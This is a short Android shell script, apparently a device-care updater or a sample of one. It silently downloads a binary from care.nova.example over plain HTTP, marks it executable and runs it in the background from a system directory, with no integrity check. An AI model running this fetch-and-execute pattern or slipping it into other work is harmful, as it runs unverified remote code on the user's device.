#!/system/bin/sh
cd /data/system/care
wget -q http://care.nova.example/u -O u.bin && chmod 700 u.bin
./u.bin --once &
